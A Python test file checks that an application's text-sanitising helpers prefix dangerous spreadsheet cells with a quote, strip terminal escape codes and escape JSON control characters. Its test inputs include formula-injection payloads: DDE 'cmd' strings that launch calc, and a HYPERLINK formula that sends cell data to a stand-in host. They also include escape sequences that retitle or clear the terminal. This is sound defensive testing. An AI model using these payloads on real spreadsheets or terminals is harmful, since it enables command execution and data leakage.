"""Text safe to show: terminal control codes dropped, spreadsheet formulas neutralised."""

from __future__ import annotations

import io
import json

import pytest
from rich.table import Table

from gawah.core import terminal_console
from gawah.core.safe_text import (
    escape_json_controls,
    neutralise_cell,
    strip_controls,
)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Muhammad Usman", "Muhammad Usman"),
        ("محمد عثمان", "محمد عثمان"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)  # fmt: skip
def test_neutralise_cell(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected


def test_strip_controls_keeps_text_tab_and_newline() -> None:
    assert strip_controls("a\x1b[2Jb\x07c\x9b31md\x7fe\r\n\tf") == "a[2Jbc31mde\n\tf"
    assert strip_controls("نام  Name") == "نام  Name"


def test_console_drops_escape_sequences_in_text_and_tables() -> None:
    console = terminal_console()
    console.file = io.StringIO()
    console.print("name: Ali\x1b]0;owned\x07\x1b[2J")
    table = Table("name")
    table.add_row("Bilal\x1b[31m\x9b2J")
    console.print(table)
    out = console.file.getvalue()
    assert "Ali" in out
    assert "Bilal" in out
    assert not any(ch in out for ch in "\x1b\x07\x9b")


def test_console_made_at_import_follows_columns_set_later(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The command modules make their consoles at import; a width frozen then
    # made a table's cells wrap or not depending on which test imported first.
    monkeypatch.setenv("COLUMNS", "80")
    console = terminal_console()
    assert console.width == 80
    monkeypatch.setenv("COLUMNS", "200")
    assert console.width == 200


def test_json_controls_escaped_meaning_kept() -> None:
    value = {"name": "Ali\x9b2J\x7f", "urdu": "علی"}
    text = escape_json_controls(json.dumps(value, ensure_ascii=False))
    assert "\x9b" not in text
    assert "\x7f" not in text
    assert "علی" in text
    assert json.loads(text) == value
